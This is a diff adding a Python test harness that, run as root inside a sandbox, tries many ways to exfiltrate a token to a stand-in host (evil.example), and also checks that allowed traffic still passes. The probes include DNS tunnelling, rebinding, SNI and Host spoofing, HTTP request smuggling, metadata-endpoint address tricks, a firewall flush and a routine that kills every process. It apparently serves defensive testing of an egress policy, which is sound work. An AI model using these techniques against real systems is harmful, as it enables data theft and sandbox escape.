@@ -1,0 +1,476 @@
+"""Ways out of a sandbox, run inside by root: attacks.py NAME TOKEN.
+
+Each function tries to bring the token to somebody whom the policy does not
+name, or to learn something from there. It returns true when it can tell that it
+got through; the witness outside looks for the token as well. Being refused is an
+exception or a false result.
+"""
+import os, random, select, signal, socket, ssl, struct, sys, threading, time
+
+ALLOWED, EVIL = "allowed.example", "evil.example"
+EVIL_IP, ALLOWED_IP = "203.0.113.66", "203.0.113.10"
+GATEWAY = socket.inet_ntoa(struct.pack("<L", int(next(
+    l.split()[2] for l in open("/proc/net/route").read().splitlines()[1:] if l.split()[1] == "00000000"), 16)))
+RESOLVER = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
+TOKEN = sys.argv[2] if len(sys.argv) > 2 else "token"
+T = 1.5
+
+
+def tcp(host, port, data, read=True):
+    with socket.create_connection((host, port), T) as s:
+        s.settimeout(T)
+        s.sendall(data)
+        return s.recv(65536) if read else b""
+
+
+def udp(host, port, data, family=socket.AF_INET, read=True):
+    with socket.socket(family, socket.SOCK_DGRAM) as s:
+        s.settimeout(T)
+        s.connect((host, port))
+        s.send(data)
+        return s.recv(65536) if read else b""
+
+
+def lookup(name):
+    return socket.gethostbyname(name)
+
+
+def http(host, path=None, method="GET", extra="", version="HTTP/1.1"):
+    return (f"{method} {path or '/' + TOKEN} {version}\r\nHost: {host}\r\n{extra}\r\n").encode()
+
+
+def ok(answer):
+    """A server of ours answered, not the proxy."""
+    return b"welcome" in answer or b"HTTP/1.1 2" in answer
+
+
+def at_allowed(data, port=80):
+    return ok(tcp(lookup(ALLOWED), port, data))
+
+
+def question(name, qtype, tcp_frame=False):
+    q = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
+    return struct.pack(">H", len(q)) + q if tcp_frame else q
+
+
+def ask(name, qtype=1, server=RESOLVER, port=53):
+    """Returns the code and the number of answers."""
+    a = udp(server, port, question(name, qtype))
+    return a[3] & 15, struct.unpack(">H", a[6:8])[0]
+
+
+def hello(names, record=16384, encrypted=False):
+    """A TLS 1.2 client hello with these server names, cut into records."""
+    ext = b""
+    if names is not None:
+        entries = b"".join(b"\0" + struct.pack(">H", len(n)) + n.encode() for n in names)
+        sni = struct.pack(">H", len(entries)) + entries
+        ext += struct.pack(">HH", 0, len(sni)) + sni
+    ext += struct.pack(">HH", 0xff01, 1) + b"\0"
+    ext += bytes.fromhex("000a000600040017001d" "000b00020100" "000d00040002" "0403")
+    if encrypted:
+        ext += struct.pack(">HH", 0xfe0d, 40) + b"\0" * 40
+    body = b"\3\3" + os.urandom(32) + b"\0" + struct.pack(">H", 4) + b"\xc0\x2b\xc0\x2f" + b"\1\0" + struct.pack(">H", len(ext)) + ext
+    msg = b"\1" + struct.pack(">I", len(body))[1:] + body
+    return b"".join(b"\x16\3\1" + struct.pack(">H", len(msg[i:i + record])) + msg[i:i + record] for i in range(0, len(msg), record))
+
+
+def tls(ip, names, port=443, step=None, **kw):
+    data = hello(names, **kw)
+    with socket.create_connection((ip, port), T) as s:
+        s.settimeout(T)
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        for i in range(0, len(data), step or len(data)):
+            s.sendall(data[i:i + (step or len(data))])
+        return s.recv(1024)[:1] == b"\x16"  # a server hello, not an alert
+
+
+def denied_name():
+    return TOKEN + "." + EVIL
+
+
+# addresses
+
+def ip_tcp(): return ok(tcp(EVIL_IP, 80, http(EVIL)))
+def ip_tcp_other_port(): return TOKEN.encode() in tcp(EVIL_IP, 7000, TOKEN.encode())
+def ip_udp(): return TOKEN.encode() in udp(EVIL_IP, 7001, TOKEN.encode())
+def ip_mapped():
+    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
+        s.settimeout(T)
+        s.connect(("::ffff:" + EVIL_IP, 80))
+        s.sendall(http(EVIL))
+        return ok(s.recv(4096))
+def ip_of_allowed_unasked():
+    """The allowed server's address, before its name was looked up."""
+    return ok(tcp("203.0.113.11", 80, http(ALLOWED)))
+def ip_neighbour_of_allowed():
+    lookup(ALLOWED)
+    return ok(tcp("203.0.113.12", 80, http(ALLOWED)))
+
+# resolvers and names
+
+def dns_other_udp(): return ask(denied_name(), server=EVIL_IP)[1] > 0
+def dns_other_tcp(): return len(tcp(EVIL_IP, 53, question(denied_name(), 1, True))) > 12
+def dns_other_port(): return ask(denied_name(), server=EVIL_IP, port=5353)[1] > 0
+def dns_over_tls(): return bool(tcp(EVIL_IP, 853, hello([denied_name()])))
+def dns_over_https(): return tls(EVIL_IP, [denied_name()])
+def dns_over_quic(): return bool(udp(EVIL_IP, 853, TOKEN.encode()))
+def dns_allowed_server_as_resolver(): return ask(denied_name(), server=lookup(ALLOWED))[1] > 0
+def dns_allowed_server_tls(): return tls(lookup(ALLOWED), [ALLOWED], port=853)
+def dns_tunnel_label(): return ask(denied_name())[1] > 0
+def dns_tunnel_txt(): return ask(denied_name(), 16)[1] > 0
+def dns_tunnel_tcp(): return struct.unpack(">H", tcp(RESOLVER, 53, question(denied_name(), 1, True))[8:10])[0] > 0
+def dns_tunnel_null(): return ask(TOKEN + ".wild.example", 10)[1] > 0
+def dns_any(): return ask(TOKEN + ".wild.example", 255)[1] > 0
+def dns_axfr(): return ask(TOKEN + ".wild.example", 252)[1] > 0
+def dns_private_type(): return ask(TOKEN + ".wild.example", 65399)[1] > 0
+def dns_service_binding(): return ask("bound.wild.example", 65)[1] > 0
+def dns_many_labels(): return ask(".".join("abcdefgh") + "." + TOKEN + ".wild.example")[1] > 0
+def dns_long_name(): return ask(".".join([TOKEN.ljust(60, "x")] * 3) + ".wild.example")[1] > 0
+def dns_many_names():
+    """More names than the budget under a wildcard."""
+    got = 0
+    for i in range(250):
+        got += ask(f"n{i}.wild.example")[1] > 0
+    return got > 150
+def dns_suffix_trick(): return ask(TOKEN + "." + ALLOWED + "." + EVIL)[1] > 0
+def dns_lookalike(): return ask(TOKEN + "not" + ALLOWED)[1] > 0
+def dns_beneath_exact(): return ask(TOKEN + "." + ALLOWED)[1] > 0
+def dns_reverse(): return ask("66.113.0.203.in-addr.arpa", 12)[1] > 0
+def dns_chaos():
+    q = bytearray(question("version.bind", 16))
+    q[-1] = 3
+    a = udp(RESOLVER, 53, bytes(q))
+    return struct.unpack(">H", a[6:8])[0] > 0
+def dns_two_questions():
+    a, b = question(ALLOWED, 1), question(denied_name(), 1)
+    both = bytearray(a + b[12:])
+    both[5] = 2
+    r = udp(RESOLVER, 53, bytes(both))
+    return struct.unpack(">H", r[6:8])[0] > 0
+def dns_alias_to_allowed(): return ask("to-allowed.example")[1] > 0
+
+def rebind(name): return ok(tcp(lookup(name + ".wild.example"), 80, http(name + ".wild.example")))
+def rebind_private(): return rebind("private")
+def rebind_metadata(): return rebind("metadata")
+def rebind_loopback_gateway():
+    lookup("gateway.wild.example")
+    return bool(tcp(GATEWAY, 8080, http("gateway.wild.example")))
+def rebind_host(): return rebind("host")
+def rebind_mapped(): return ask("mapped.wild.example", 28)[1] > 0
+def rebind_nat64(): return ask("nat64.wild.example", 28)[1] > 0
+def rebind_by_alias(): return rebind("alias-private")
+
+# names that are claimed
+
+def sni_allowed_at_evil(): return tls(EVIL_IP, [ALLOWED])
+def sni_evil_at_allowed(): return tls(lookup(ALLOWED), [denied_name()])
+def sni_missing(): return tls(lookup(ALLOWED), None)
+def sni_one_byte_segments(): return tls(lookup(ALLOWED), [denied_name()], step=1)
+def sni_small_records(): return tls(lookup(ALLOWED), [denied_name()], record=7)
+def sni_two_names(): return tls(lookup(ALLOWED), [ALLOWED, denied_name()])
+def sni_upper_suffix(): return tls(lookup(ALLOWED), [denied_name().upper() + "."])
+def sni_encrypted_hello(): return tls(lookup(ALLOWED), [denied_name()], encrypted=True)
+def sni_other_port(): return tls(lookup(ALLOWED), [denied_name()], port=8443)
+def sni_other_allowed_name():
+    """An allowed name with the address of another."""
+    lookup("other.wild.example")
+    return tls(lookup(ALLOWED), ["other.wild.example"])
+def opaque_on_443(): return TOKEN.encode() in tcp(lookup(ALLOWED), 443, b"\0" + TOKEN.encode())
+def opaque_on_80(): return TOKEN.encode() in tcp(lookup(ALLOWED), 80, b"\0" + TOKEN.encode())
+
+def host_evil(): return at_allowed(http(EVIL))
+def host_evil_other_port(): return at_allowed(http(EVIL), 8080)
+def host_missing(): return at_allowed(f"GET /{TOKEN} HTTP/1.0\r\n\r\n".encode())
+def host_http09(): return bool(at_allowed(f"GET /{TOKEN}\r\n".encode()))
+def host_two(): return at_allowed(http(ALLOWED, extra=f"Host: {EVIL}\r\n"))
+def host_two_reversed(): return at_allowed(http(EVIL, extra=f"Host: {ALLOWED}\r\n"))
+def host_absolute_target(): return at_allowed(http(ALLOWED, f"http://{EVIL}/{TOKEN}"))
+def host_absolute_upper(): return at_allowed(http(ALLOWED, f"HTTP://{EVIL}/{TOKEN}"))
+def host_userinfo(): return at_allowed(http(f"{ALLOWED}@{EVIL}"))
+def host_bare_lf(): return at_allowed(http(ALLOWED, extra=f"X: y\nHost: {EVIL}\r\n"))
+def host_folded(): return at_allowed(http(ALLOWED, extra=f"X: y\r\n Host: {EVIL}\r\n"))
+def host_space_before_colon(): return at_allowed(http(ALLOWED, extra=f"Host : {EVIL}\r\n"))
+def host_leading_lines(): return at_allowed(b"\r\n\r\n" + http(EVIL))
+def host_leading_space(): return at_allowed(b" " + http(EVIL))
+def host_odd_method(): return at_allowed(http(EVIL, method="BREW"))
+def host_lower_version(): return at_allowed(http(EVIL, version="http/1.1"), 8080)
+def host_other_port(): return at_allowed(http(ALLOWED + ":22"))
+def host_ip(): return at_allowed(http(EVIL_IP))
+def connect_relay(): return at_allowed(http(EVIL + ":443", f"{EVIL}:443", "CONNECT"))
+def connect_relay_allowed_host(): return at_allowed(http(ALLOWED, f"{EVIL}:443", "CONNECT"))
+
+def second(first, follow=None):
+    """A second request, after an allowed one, on the same connection."""
+    with socket.create_connection((lookup(ALLOWED), 80), T) as s:
+        s.settimeout(T)
+        def answer():
+            got = b""
+            while b"welcome" not in got and b"DENIED" not in got:
+                more = s.recv(65536)
+                if not more:
+                    break
+                got += more
+            return b"welcome" in got
+        s.sendall(first)
+        if not answer():
+            return False
+        s.sendall(follow or http(EVIL))
+        return answer()
+def keepalive_second_host(): return second(http(ALLOWED, "/first"))
+def pipelined_second_host(): return at_allowed(http(ALLOWED, "/first") + http(EVIL)) and False
+def upgrade_then_host(): return second(http(ALLOWED, "/first", extra="Connection: Upgrade\r\nUpgrade: websocket\r\n"))
+def upgrade_h2c(): return b"101" in tcp(lookup(ALLOWED), 80, http(ALLOWED, "/first", extra="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n"))
+def smuggle(extra, body): return at_allowed(http(ALLOWED, "/first", "POST", extra) + body) and False
+def smuggle_both_lengths(): return smuggle("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + http(EVIL))
+def smuggle_two_lengths(): return smuggle(f"Content-Length: 0\r\nContent-Length: {len(http(EVIL))}\r\n", http(EVIL))
+def smuggle_list_of_lengths(): return smuggle("Content-Length: 0, 5\r\n", http(EVIL))
+def smuggle_signed_length(): return smuggle("Content-Length: +0\r\n", http(EVIL))
+def smuggle_odd_encoding(): return smuggle("Transfer-Encoding: xchunked\r\n", http(EVIL))
+def smuggle_encoding_tab(): return smuggle("Transfer-Encoding:\x0bchunked\r\nContent-Length: 0\r\n", http(EVIL))
+def smuggle_bad_chunk(): return smuggle("Transfer-Encoding: chunked\r\n", b"0x0\r\n\r\n" + http(EVIL))
+def smuggle_chunk_end(): return smuggle("Transfer-Encoding: chunked\r\n", b"1\r\nZZZ\r\n0\r\n\r\n" + http(EVIL))
+def smuggle_after_body(): return smuggle("Content-Length: 0\r\n", http(EVIL))
+def http2_prior_knowledge():
+    block = b"\x82\x86" + b"\x04" + bytes([len(TOKEN) + 1]) + b"/" + TOKEN.encode() + b"\x01" + bytes([len(EVIL)]) + EVIL.encode()
+    frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" + struct.pack(">I", len(block))[1:] + b"\1\5\0\0\0\1" + block
+    return b"welcome" in tcp(lookup(ALLOWED), 8080, frames)
+
+# other protocols
+
+def quic_allowed(): return TOKEN.encode() in udp(lookup(ALLOWED), 443, TOKEN.encode())
+def quic_evil(): return TOKEN.encode() in udp(EVIL_IP, 443, TOKEN.encode())
+def icmp_ping_socket():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
+        s.settimeout(T)
+        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + TOKEN.encode(), (EVIL_IP, 0))
+        return TOKEN.encode() in s.recv(4096)
+def raw(protocol, data, dst=EVIL_IP):
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as s:
+        s.sendto(data, (dst, 0))
+    return False
+def icmp_raw(): return raw(1, struct.pack(">BBHHH", 8, 0, 0, 0, 1) + TOKEN.encode())
+def ip_in_ip(): return raw(4, b"\x45" + b"\0" * 19 + TOKEN.encode())
+def gre(): return raw(47, b"\0" * 4 + TOKEN.encode())
+def esp(): return raw(50, TOKEN.encode())
+def sctp():
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as s:
+        s.settimeout(T)
+        s.connect((EVIL_IP, 7000))
+        return True
+def udplite():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
+        s.sendto(TOKEN.encode(), (EVIL_IP, 7001))
+    return False
+def fragments(): return TOKEN.encode() in udp(EVIL_IP, 7001, TOKEN.encode() + b"x" * 5000)
+def fragments_allowed_443(): return TOKEN.encode() in udp(lookup(ALLOWED), 443, TOKEN.encode() + b"x" * 5000)
+def tcp_fast_open():
+    with socket.socket() as s:
+        s.settimeout(T)
+        s.sendto(http(EVIL), 0x20000000, (EVIL_IP, 80))
+        return ok(s.recv(4096))
+
+# the link
+
+def spoof_source():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
+        s.bind((os.environ.get("OTHER", "10.213.0.77"), 4444))
+        s.sendto(TOKEN.encode(), (EVIL_IP, 7001))
+    return False
+def spoof_transparent():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
+        return True
+def spoof_packet_socket():
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) as s:
+        s.bind(("eth0", 0x800))
+        return True
+def arp_spoof():
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0806) as s:
+        s.bind(("eth0", 0x0806))
+        return True
+def netlink(kind, body):
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
+        s.bind((0, 0))
+        s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x405, 1, 0) + body)
+        code = struct.unpack("=i", s.recv(4096)[16:20])[0]
+        if code:
+            raise OSError(-code, os.strerror(-code))
+        return True
+def attr(kind, data): return struct.pack("=HH", 4 + len(data), kind) + data
+def add_address(): return netlink(20, struct.pack("=BBBBI", 2, 32, 0, 0, 2) + attr(2, socket.inet_aton("10.213.0.99")))
+def add_route(): return netlink(24, struct.pack("=BBBBBBBBI", 2, 24, 0, 0, 254, 4, 0, 1, 0) + attr(1, socket.inet_aton("203.0.113.0")) + attr(4, struct.pack("=I", 2)))
+def set_mac(): return netlink(16, struct.pack("=BxHiII", 0, 0, 2, 0, 0) + attr(1, b"\2pad\0\2"))
+def add_neighbour(): return netlink(28, struct.pack("=BxxxiHBB", 2, 2, 0x80, 0, 0) + attr(1, socket.inet_aton(GATEWAY)) + attr(2, b"\2pad\0\7") + b"\0\0")
+def new_link(): return netlink(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attr(3, b"x0\0\0") + attr(18, attr(1, b"dummy\0\0\0")))
+def set_mark():
+    with socket.socket() as s:
+        s.setsockopt(socket.SOL_SOCKET, 36, 1)  # SO_MARK
+        return True
+def nft_flush():
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as s:
+        s.bind((0, 0))
+        begin = struct.pack("=IHHII", 20, 16, 1, 0, 0) + struct.pack(">BBH", 0, 0, 10)
+        delete = struct.pack("=IHHII", 20, 10 << 8 | 2, 5, 1, 0) + struct.pack(">BBH", 0, 0, 0)
+        end = struct.pack("=IHHII", 20, 17, 1, 2, 0) + struct.pack(">BBH", 0, 0, 10)
+        s.send(begin + delete + end)
+        s.settimeout(T)
+        try:
+            s.recv(4096)
+        except OSError:
+            pass
+    return ip_tcp()
+def new_user_namespace():
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.unshare(0x10000000 | 0x40000000):  # CLONE_NEWUSER | CLONE_NEWNET
+        raise OSError(ctypes.get_errno(), "unshare")
+    return raw(1, b"\x08" + b"\0" * 7 + TOKEN.encode())
+def kill_everything():
+    for pid in os.listdir("/proc"):
+        if pid.isdigit() and int(pid) not in (1, os.getpid(), os.getppid()):
+            try:
+                os.kill(int(pid), signal.SIGKILL)
+            except OSError:
+                pass
+    for name in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGQUIT):
+        try:
+            os.kill(1, name)
+        except OSError:
+            pass
+        ip_tcp()
+    return False
+
+# IPv6
+
+def v6(host, kind=socket.SOCK_DGRAM, port=7001, scope=0):
+    with socket.socket(socket.AF_INET6, kind) as s:
+        s.settimeout(T)
+        s.connect((host, port, 0, scope))
+        s.send(TOKEN.encode())
+        return TOKEN.encode() in s.recv(4096)
+def ipv6_udp(): return v6("2001:db8::66")
+def ipv6_tcp(): return v6("2001:db8::66", socket.SOCK_STREAM, 7000)
+def ipv6_link_local(): return v6("fe80::1", scope=2)
+def ipv6_multicast(): return v6("ff02::1", scope=2)
+def ipv6_nat64(): return v6("64:ff9b::cb00:7142")
+def ipv6_6to4(): return v6("2002:cb00:7142::1")
+
+# the neighbourhood
+
+def multicast():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(TOKEN.encode(), ("224.0.0.251", 5353))
+    return False
+def broadcast():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        s.sendto(TOKEN.encode(), ("255.255.255.255", 7001))
+    return False
+def sweep(host, ports):
+    found = []
+    def one(p):
+        try:
+            with socket.create_connection((host, p), T):
+                found.append(p)
+        except OSError:
+            pass
+    threads = [threading.Thread(target=one, args=(p,)) for p in ports]
+    [t.start() for t in threads]
+    [t.join() for t in threads]
+    return found
+def other_sandbox(): return bool(sweep(os.environ["OTHER"], [22, 53, 80, 443, 8080, 18080, 44772]))
+def host_gateway(): return bool(sweep(GATEWAY, [22, 80, 443, int(os.environ["API"]), 8080, 18080, 28888, 44772, int(os.environ["PROXY"])]))
+def host_outside_address(): return bool(sweep("203.0.113.1", [22, 53, 80, 443, int(os.environ["API"]), int(os.environ["PROXY"])]))
+def host_loopback(): return bool(sweep("127.0.0.1", [int(os.environ["API"])]))
+def metadata(): return ok(tcp("169.254.169.254", 80, http("169.254.169.254")))
+def metadata_decimal(): return ok(tcp("2852039166", 80, http("169.254.169.254")))
+def metadata_hex(): return ok(tcp("0xA9FEA9FE", 80, http("169.254.169.254")))
+def metadata_octal(): return ok(tcp("0251.0376.0251.0376", 80, http("169.254.169.254")))
+def metadata_short(): return ok(tcp("169.254.43518", 80, http("169.254.169.254")))
+def metadata_alibaba(): return ok(tcp("100.100.100.200", 80, http("100.100.100.200")))
+def metadata_host_header(): return at_allowed(http("169.254.169.254"))
+def private_range(): return ok(tcp("10.99.0.1", 80, http("10.99.0.1")))
+
+# what must go on, and what must end
+
+def exhaust_tracking():
+    """Makes as many tracked connections as it can."""
+    ip = lookup(ALLOWED)
+    for i in range(6000):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            try:
+                s.sendto(b"x", (ip, 10000 + i % 20000))
+            except OSError:
+                pass
+    return False
+
+def good_http():
+    a = tcp(lookup(ALLOWED), 80, http(ALLOWED))
+    return ok(a)
+def good_body():
+    body = b"x" * 300000
+    return ok(tcp(lookup(ALLOWED), 80, http(ALLOWED, "/p", "POST", f"Content-Length: {len(body)}\r\n") + body))
+def good_chunks(): return ok(tcp(lookup(ALLOWED), 80, http(ALLOWED, "/p", "POST", "Transfer-Encoding: chunked\r\n") + b"5\r\nhello\r\n0\r\n\r\n"))
+def good_keepalive(): return second(http(ALLOWED, "/first"), http(ALLOWED, "/second"))
+def good_tls():
+    c = ssl.create_default_context()
+    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
+    with socket.create_connection((ALLOWED, 443), 10) as raw, c.wrap_socket(raw, server_hostname=ALLOWED) as s:
+        s.sendall(http(ALLOWED))
+        return ok(s.recv(4096))
+def good_opaque(): return TOKEN.encode() in tcp(lookup(ALLOWED), 7000, b"\0" + TOKEN.encode())
+def good_line(): return TOKEN.encode() in tcp(lookup(ALLOWED), 7000, b"SET x " + TOKEN.encode() + b"\r\n")
+def good_udp(): return TOKEN.encode() in udp(lookup(ALLOWED), 7001, TOKEN.encode())
+def good_server_first():
+    with socket.create_connection((lookup(ALLOWED), 7002), T) as s:
+        s.settimeout(T)
+        if s.recv(100) != b"220 ready\r\n":
+            return False
+        s.sendall(b"EHLO me\r\n")
+        return b"EHLO me" in s.recv(100)
+def good_wild(): return ok(tcp(lookup("x.wild.example"), 80, http("x.wild.example")))
+def explained():
+    """The refusal says what and why."""
+    a = tcp(lookup(ALLOWED), 80, http(EVIL))
+    return a.startswith(b"HTTP/1.1 403") and b"NETWORK_POLICY_DENIED" in a and EVIL.encode() in a
+
+
+def hold(port=7000):
+    """Keeps a connection and tells when it ends; then uses its port again."""
+    s = socket.create_connection((lookup(ALLOWED), port), T)
+    own = s.getsockname()
+    s.sendall(b"hello\n")
+    s.recv(100)
+    print("HOLDING", flush=True)
+    s.settimeout(20)
+    try:
+        end = s.recv(100)
+    except ConnectionError:
+        end = b""
+    if end != b"":
+        print("OPEN still receives")
+        return
+    s.close()
+    with socket.socket() as again:
+        again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        again.bind(own)
+        again.settimeout(T)
+        try:
+            again.connect((ALLOWED_IP, port))
+            again.sendall(TOKEN.encode() + b"\n")
+            print("OPEN" if TOKEN.encode() in again.recv(100) else "BLOCKED")
+        except OSError as e:
+            print("BLOCKED", e)
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "hold":
+        hold()
+        sys.exit()
+    try:
+        print("OPEN" if globals()[sys.argv[1]]() else "BLOCKED no answer")
+    except (OSError, ssl.SSLError) as e:
+        print("BLOCKED", repr(e))
